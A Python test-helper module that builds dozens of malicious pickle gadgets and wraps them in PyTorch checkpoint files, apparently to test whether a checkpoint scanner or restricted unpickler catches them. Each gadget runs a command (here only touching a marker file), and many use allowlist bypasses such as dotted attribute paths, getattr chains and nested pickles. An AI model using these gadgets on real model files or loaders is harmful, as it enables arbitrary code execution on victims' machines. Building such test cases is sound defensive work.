"""Pickles that run code when a stock unpickler reads them, and checkpoints' files that hold them.

Each makes a marker file. They are written opcode by opcode, as an attacker would.
"""

import contextlib
import ctypes.util  # noqa: F401, on the way of a gadget
import io
import pickle
import struct
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

EXTENSION = ("os", "system", 0xE7)
"""Of the gadget that names a function by a number: `copyreg.add_extension`."""


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def named(module: str, name: str) -> bytes:
    """The object, as protocol 4 names it: with dots the attributes of attributes."""
    return text(module) + text(name) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    return function + b"(" + b"".join(args) + b"tR"


def blob(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


_SYSTEM = named("os", "system")
_MODULE = named("torch.serialization", "os")
_METADATA = "torch.distributed.checkpoint.metadata"


def attribute(thing: bytes, *names: str) -> bytes:
    for name in names:
        thing = call(named("builtins", "getattr"), thing, text(name))
    return thing


def _touch(module: str, name: str, marker: Path) -> bytes:
    return call(named(module, name), b"(" + text("touch") + text(str(marker)) + b"t")


def gadgets(marker: Path) -> dict[str, bytes]:
    """Name -> pickle that makes the marker file."""
    shell = text(f"touch {marker}")
    python = text(f"__import__('pathlib').Path({str(marker)!r}).touch()")
    enums = named(_METADATA, "_MEM_FORMAT_ENCODING")
    inner = pickle.PROTO + b"\x04" + call(_SYSTEM, shell) + b"."
    line = f"touch {marker}".encode()
    bodies = {
        "os.system, text": b"cos\nsystem\n(" + shell + b"tR",
        "os.system": call(_SYSTEM, shell),
        "posix.system": call(named("posix", "system"), shell),
        "Popen behind dots of an allowed module": _touch(_METADATA, "torch.ctypes.util.subprocess.Popen", marker),
        "check_call": _touch("subprocess", "check_call", marker),
        "system behind dots of torch": call(named("torch", "serialization.os.system"), shell),
        "system in an allowed class": call(named(_METADATA, "os.system"), shell),
        "eval": call(named("builtins", "eval"), python),
        "exec": call(named("builtins", "exec"), python),
        "getattr chain": call(attribute(_MODULE, "system"), shell),
        "getattr of an enum's insides": call(
            attribute(call(attribute(enums, "__new__", "__globals__", "get"), text("bltns")), "exec"), python
        ),
        "attrgetter": call(call(call(named("operator", "attrgetter"), text("system")), _MODULE), shell),
        "methodcaller": call(call(named("operator", "methodcaller"), text("system"), shell), _MODULE),
        "partial": call(call(named("functools", "partial"), _SYSTEM, shell)),
        "partial, its state built": (
            call(named("functools", "partial"), named("builtins", "print"))
            + b"("
            + _SYSTEM
            + b"("
            + shell
            + b"t}}tb"
            + b")R"
        ),
        "INST": b"(" + shell + b"ios\nsystem\n",
        "OBJ": b"(" + named("subprocess", "Popen") + b"(" + text("touch") + text(str(marker)) + b"to",
        "EXT1": call(b"\x82" + bytes([EXTENSION[2]]), shell),
        "NEWOBJ": named("pathlib", "Path") + b"(t\x810" + call(_SYSTEM, shell),
        "NEWOBJ_EX": named("pathlib", "Path") + b"(t}\x920" + call(_SYSTEM, shell),
        "getoutput": call(named("subprocess", "getoutput"), shell),
        "persistent id": text("x") + b"Q0" + call(_SYSTEM, shell),
        "pickle within": call(named("pickle", "loads"), blob(inner)),
        "pickle within torch's bytes": call(named("torch.storage", "_load_from_bytes"), blob(as_torch_file(inner))),
        "compiled code": call(
            named("runpy", "_run_code"), call(named("builtins", "compile"), python, text("x"), text("exec")), b"}"
        ),
        "import and getattr": call(attribute(call(named("importlib", "import_module"), text("os")), "system"), shell),
        "Path.touch": call(named("pathlib", "Path.touch"), call(named("pathlib", "Path"), text(str(marker)))),
        "open": call(named("io", "open"), text(str(marker)), text("w")),
        "method behind dots": call(
            named("code", "InteractiveInterpreter.runsource"), call(named("code", "InteractiveInterpreter")), python
        ),
        "map": call(named("builtins", "list"), call(named("builtins", "map"), _SYSTEM, b"(" + shell + b"t")),
        "as a key of a dictionary": b"}" + call(_SYSTEM, shell) + text("value") + b"s",
        "memo": call(_SYSTEM + b"\x940h\x00", shell),
        "after a class has been changed": (
            named(_METADATA, "Metadata")
            + b"N}"
            + text("_changed_by_a_gadget")
            + _SYSTEM
            + b"s\x86b0"
            + call(_SYSTEM, shell)
        ),
        "text protocol": b"c__builtin__\neval\n(" + python + b"tR",
        "lines": b"cos\nsystem\n(S'" + line + b"'\ntR",
    }
    old = {"text protocol"}  # in which the names of Python 2 are those of Python 3
    return {name: (b"\x80\x02" if name in old else b"\x80\x04") + body + b"." for name, body in bodies.items()}


def as_torch_file(content: bytes, at_least: int = 0) -> bytes:
    """A zip archive of `torch.save` whose pickle is the given one; of at least so many bytes."""
    whole = io.BytesIO()
    torch.save({"x": torch.zeros(2)}, whole)
    out = io.BytesIO()
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(out, "w") as target:
        for entry in source.infolist():
            target.writestr(entry.filename, content if entry.filename.endswith("data.pkl") else source.read(entry))
        target.writestr("archive/padding", bytes(at_least))
    return out.getvalue()


def as_old_torch_file(content: bytes) -> bytes:
    """The format of torch before 1.6: pickles one after the other."""
    head = b"".join(pickle.dumps(part, protocol=2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    return head + content


FORMS: dict[str, Callable[[bytes], bytes]] = {"zip": as_torch_file, "before 1.6": as_old_torch_file}


def runs(content: bytes, marker: Path) -> bool:
    """Whether a stock unpickler runs it: a gadget that does nothing would prove nothing."""
    unpickler = pickle.Unpickler(io.BytesIO(content))
    unpickler.persistent_load = lambda pid: None
    with contextlib.suppress(Exception):  # many gadgets end in one, after they have run
        made = unpickler.load()
        if isinstance(made, subprocess.Popen):
            made.wait()
    return marker.exists()
